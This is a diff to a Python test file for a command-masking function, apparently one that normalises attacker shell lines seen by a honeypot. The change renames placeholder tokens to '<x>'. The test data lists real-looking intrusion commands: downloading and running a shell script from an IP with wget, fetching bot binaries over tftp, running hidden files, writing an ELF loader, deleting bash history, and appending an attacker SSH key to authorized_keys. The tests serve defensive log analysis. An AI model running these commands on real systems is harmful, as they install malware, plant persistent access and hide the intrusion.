@@ -18,14 +18,14 @@ KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC" + "Zk3v+9Lm" * 40
         ("cd /tmp; wget http://45.9.148.1:81/a/b.sh?x=1; sh b.sh", "cd /tmp; wget <url>; sh b.sh"),
         ("tftp 198.51.100.7 -c get bot.arm7", "tftp <ip> -c get bot.arm7"),
         ("tftp -g -r mips 2001:db8::7", "tftp -g -r mips <ip>"),
-        ("chmod 777 .kq3Zl0\t&&  ./.kq3Zl0 1234", "chmod <n> .<name> && ./.<name> <n>"),
-        ("/bin/busybox KDVJS", "/bin/busybox <name>"),
+        ("chmod 777 .kq3Zl0\t&&  ./.kq3Zl0 1234", "chmod <x> .<x> && ./.<x> <x>"),
+        ("/bin/busybox KDVJS", "/bin/busybox <x>"),
         (r'echo -ne "\x7f\x45\x4c\x46\x01" >> loader', 'echo -ne "<data>" >> loader'),
         ("echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IQ== | base64 -d", "echo <data> | base64 -d"),
         ("cat /usr/local/share/applications/defaults/readme", None),
         ("python3 -c x; sha256sum x86_64; rm ~/.bash_history", None),
         (f'echo "ssh-rsa {KEY} mdrfckr" >> .ssh/authorized_keys',
-         f'echo "ssh-rsa {KEY} <name>" >> .ssh/authorized_keys'),
+         f'echo "ssh-rsa {KEY} <x>" >> .ssh/authorized_keys'),
     ],
 )  # fmt: skip
 def test_what_is_masked(line: str, masked: str | None) -> None:
@@ -85,7 +85,7 @@ def test_one_random_name_of_letters_in_a_hundred_passes_for_a_word_at_most() -> 
     """The known limit: names without digits and capitals can look like words."""
     rng = random.Random(4)
     names = ["".join(rng.choices(string.ascii_lowercase, k=8)) for _ in range(5_000)]
-    kept = [name for name in names if mask(f"./{name}").text != "./<name>"]
+    kept = [name for name in names if mask(f"./{name}").text != "./<x>"]
     assert 0 < len(kept) < 50
 
 
